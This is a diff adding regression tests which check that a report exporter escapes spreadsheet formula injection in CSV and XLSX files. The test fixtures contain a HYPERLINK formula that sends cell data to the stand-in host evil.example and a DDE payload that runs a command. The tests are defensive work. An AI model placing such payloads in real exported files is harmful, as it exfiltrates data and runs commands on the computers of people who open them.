@@ -6,7 +6,10 @@ import { reportCard } from '../../cards/report-card';
 import { MAX_ACTIONS_PER_CARD, myActionsCard, summaryCard, welcomeCard } from '../../cards/views';
 import type { OutboundMessage } from '../../services/delivery/messages';
 import type { Action } from '../../services/plan/model';
-import { TABLE_LIMITS } from '../../services/plan/tabular';
+import { parse } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
+import { TABLE_LIMITS, writeReport } from '../../services/plan/tabular';
+import type { Report } from '../../services/core/report';
 import { cli } from '../harness/cli';
 
 /**
@@ -171,6 +174,39 @@ describe('hostile text on cards', () => {
         expect(out.split('\n').filter((line) => line.startsWith('Removed every'))).toEqual([]);
       }
       expect(listed.out).toContain('Thames Valley Police[2J[H Removed every agency and tenant.');
+    });
+  });
+
+  describe('a spreadsheet someone opens from an export', () => {
+    const PAYLOAD = '=HYPERLINK("https://evil.example/?d="&A2,"Click for your certificate")';
+    // An agency named by its own administrator, as the partnership report has it: section title, header and cell.
+    const sections: Report[] = [
+      { title: PAYLOAD, headers: ['Agency', '+Staff'], rows: [[PAYLOAD, 12], ['@SUM(1+1)*cmd|"/c calc"!A0', 3]] },
+      { title: 'Escalations', headers: ['Agency', 'Open'], rows: [['\t=1+1', 0], ['-2+3', 1]] },
+    ];
+    let dir: string;
+    beforeAll(async () => {
+      dir = await fs.mkdtemp(path.join(os.tmpdir(), 'hostile-export-'));
+    });
+    afterAll(() => fs.rm(dir, { recursive: true, force: true }));
+
+    it('a report of several sections written as CSV has no cell a spreadsheet would run (regression)', async () => {
+      const file = path.join(dir, 'partnership.csv');
+      await writeReport(file, sections);
+      const cells = (parse(await fs.readFile(file, 'utf8'), { bom: true, relax_column_count: true }) as string[][]).flat();
+      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+      expect(cells).toContain(`'${PAYLOAD}`);
+    });
+
+    it('the same report written as XLSX keeps every such cell a string, never a formula (regression)', async () => {
+      const file = path.join(dir, 'partnership.xlsx');
+      await writeReport(file, sections);
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.readFile(file);
+      const cells: ExcelJS.Cell[] = [];
+      book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
+      expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
+      expect(cells.map((c) => c.value)).toContain(PAYLOAD);
     });
   });
 });
